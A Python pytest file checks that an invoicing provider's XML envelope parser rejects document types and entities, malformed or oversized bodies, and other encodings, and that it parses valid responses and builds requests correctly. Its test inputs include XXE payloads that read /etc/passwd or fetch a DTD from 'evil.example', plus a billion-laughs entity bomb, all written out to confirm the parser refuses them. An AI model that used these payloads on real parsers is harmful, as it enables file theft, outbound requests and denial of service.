"""XML from outside is read without ever letting it define, fetch or grow anything."""

import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from providers.invoicing.acuinvoice import envelope
from providers.invoicing.acuinvoice.envelope import Unreadable

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
OK = '<response status="ok"><invoice_id>7</invoice_id></response>'


@pytest.mark.parametrize(
    "body",
    [
        f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]><response status="ok"><a>&l9;</a></response>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><response status="ok"><a>&x;</a></response>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><response status="ok"/>',
        '<!DOCTYPE response SYSTEM "http://evil.example/x.dtd"><response status="ok"/>',
        "<!DOCTYPE html><html><head><title>Log in</title></head></html>",
        f'<?xml version="1.0"?>\n<!-- a --><?b c?>\n<!DOCTYPE response>{OK}',
        f"<!doctype response>{OK}",
        '<response status="ok"><!DOCTYPE r [<!ENTITY a "b">]><a>&a;</a></response>',
        '<response status="ok"><a>&nbsp;</a></response>',
    ],
)
def test_a_document_type_and_its_entities_are_refused(body: str) -> None:
    begun = time.monotonic()
    with pytest.raises(Unreadable):
        envelope.response(body.encode())
    assert time.monotonic() - begun < 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "latin-1"])
def test_another_encoding_hides_nothing(encoding: str) -> None:
    body = '<!DOCTYPE é [<!ENTITY a "b">]><response status="ok"/>'.encode(encoding)
    with pytest.raises(Unreadable):
        envelope.response(body)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{}",
        b"ok",
        OK.encode()[: len(OK) // 2],
        OK.encode() + OK.encode(),
        b"<html><body>Log in</body></html>",
        b"<response/>",
        b'<response status="perhaps"/>',
        b'<answer status="ok"/>',
        b"<a>" * 100_000,
        b'<response status="ok">' + b"<b/>" * (envelope.MOST_ELEMENTS + 1) + b"</response>",
        b'<response status="ok"><a>\x00</a></response>',
        b'<response status="ok"><a>&#0;</a></response>',
        b"<!--" * 50_000,
        b"<?a " * 50_000,
    ],
)
def test_what_is_no_answer_is_unreadable(body: bytes) -> None:
    begun = time.monotonic()
    with pytest.raises(Unreadable):
        envelope.response(body)
    assert time.monotonic() - begun < 5


@given(st.binary(max_size=300) | st.text(alphabet='<>/!?-[]&;="aé \n', max_size=120).map(str.encode))
def test_no_body_breaks_the_reading(body: bytes) -> None:
    with suppress(Unreadable):
        envelope.response(body)


@pytest.mark.parametrize(
    "body",
    [
        OK,
        f"\ufeff{OK}",
        f'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!-- <!DOCTYPE x> --> {OK}',
        '<request status="ok"><invoice_id>7</invoice_id></request>',
        '<response xmlns="http://any.example/api/" status="ok"><invoice_id> 7\n</invoice_id></response>',
        '<a:response xmlns:a="urn:a" a:status="ok"><a:invoice_id>7</a:invoice_id></a:response>',
        '<response status="ok"><invoice_id><![CDATA[7]]></invoice_id></response>',
    ],
)
def test_an_answer_is_read_whatever_its_namespace_and_declaration(body: str) -> None:
    answer = envelope.response(body.encode())
    assert not envelope.failed(answer)
    assert answer.texts("invoice_id") == ["7"]


def test_text_that_looks_like_a_document_type_is_text() -> None:
    body = '<response status="ok"><notes><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]> &a;]]></notes></response>'
    assert envelope.response(body.encode()).texts("notes") == ['<!DOCTYPE x [<!ENTITY a "b">]> &a;']


def test_records_hold_texts_lists_and_what_is_not_known() -> None:
    body = """<response status="ok"><invoice>
        <invoice_id>7</invoice_id><notes/>
        <lines><line><price>1.00</price></line><line><price>2.00</price></line></lines>
        <mood><colour>blue</colour></mood><twice>a</twice><twice>b</twice><twice>c</twice>
    </invoice></response>"""
    assert list(envelope.response(body.encode()).records("invoice")) == [
        {
            "invoice_id": "7",
            "notes": "",
            "lines": [{"price": "1.00"}, {"price": "2.00"}],
            "mood": {"colour": "blue"},
            "twice": ["a", "b", "c"],
        }
    ]


@pytest.mark.parametrize("wrapper", ["{}", "<invoices page='1' total='2'>{}</invoices>"])
def test_entries_are_read_with_and_without_a_wrapper(wrapper: str) -> None:
    entries = "<invoice><invoice_id>2</invoice_id></invoice><invoice><invoice_id>1</invoice_id></invoice>"
    body = f'<response status="ok">{wrapper.format(entries)}</response>'
    found = envelope.response(body.encode()).records("invoice")
    assert [each["invoice_id"] for each in found] == ["2", "1"]


def test_a_request_is_utf_8_with_its_method_as_an_attribute() -> None:
    body = envelope.request("a.b", {"a": {"note": "Łąka & <Söhne>\x00", "flag": True, "gone": None, "n": 7}})
    assert body.decode() == (
        "<?xml version='1.0' encoding='utf-8'?>\n"
        '<request method="a.b"><a><note>Łąka &amp; &lt;Söhne&gt;</note><flag>1</flag><n>7</n></a></request>'
    )


@given(st.text(max_size=60).filter(lambda text: "\r" not in text))
def test_any_text_survives_the_way_there_and_back(text: str) -> None:
    told = envelope.parse(envelope.request("x", {"note": text})).texts("note")
    assert told == [envelope.clean(text).strip()]
